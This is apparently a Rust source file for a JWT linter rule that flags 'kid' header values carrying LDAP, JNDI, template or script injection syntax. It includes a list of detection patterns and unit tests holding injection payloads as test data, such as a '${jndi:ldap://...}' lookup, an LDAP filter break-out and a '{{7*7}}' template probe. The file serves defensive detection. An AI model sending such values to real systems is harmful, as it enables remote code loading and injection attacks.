//! Rule `hdr-kid-injection-other`.

use crate::lints::{Finding, Subject, declare_lint};

declare_lint! {
    /// ## What it finds
    /// A `kid` with the syntax of LDAP filters, JNDI, templates or scripts, or with line breaks.
    ///
    /// ## Why it matters
    /// Whoever sends the token writes `kid`, before anything is verified. It is made for what happens to log, query or show it.
    ///
    /// ## What to do
    /// Use `kid` only to look up a key among those you know, and refuse every form that your issuer does not use.
    ///
    /// ## References
    /// - RFC 8725 3.10
    HDR_KID_INJECTION_OTHER, "hdr-kid-injection-other", Warning, "kid contains another injection pattern",
    "RFC 8725 3.10", needs: [Header]
}

fn check(subject: &Subject<'_>, findings: &mut Vec<Finding>) {
    let Some(kid) = subject.facts.key_id() else { return };
    if looks_like_injection(kid) {
        let message = "`kid` has characters made to attack what logs, looks up or shows it (LDAP, JNDI, templates, scripts, line breaks). Check it against the exact form that your issuer uses.";
        findings.push(HDR_KID_INJECTION_OTHER.at_header(subject, "kid", message));
    }
}

fn looks_like_injection(kid: &str) -> bool {
    const PARTS: [&str; 10] =
        ["*)(", ")(|", "${jndi", "${env", "${sys", "{{", "<%", "#{", "<script", "javascript:"];
    let folded: String = kid.to_ascii_lowercase().replace("< ", "<");
    PARTS.iter().any(|part| folded.contains(part)) || kid.contains(['\r', '\n', '\0'])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lints::case::Case;

    #[test]
    fn fires_on_other_syntax() {
        for case in [
            Case::header(r#"{"alg":"HS256","kid":"${jndi:ldap://x/a}"}"#),
            Case::header(r#"{"alg":"HS256","kid":"*)(uid=*"}"#),
            Case::header(r#"{"alg":"HS256","kid":"{{7*7}}"}"#),
            Case::header(r#"{"alg":"HS256","kid":"<script>"}"#),
            Case::header(r#"{"alg":"HS256","kid":"a\nb"}"#),
        ] {
            assert!(case.fires(&HDR_KID_INJECTION_OTHER), "{case:?}");
        }
    }

    #[test]
    fn is_silent_about_guids_in_braces() {
        for case in [
            Case::header(r#"{"alg":"HS256","kid":"{A1B2C3D4-0000-0000-0000-000000000000}"}"#),
            Case::header(r#"{"alg":"HS256","kid":"key-1"}"#),
        ] {
            assert!(!case.fires(&HDR_KID_INJECTION_OTHER), "{case:?}");
        }
    }
}
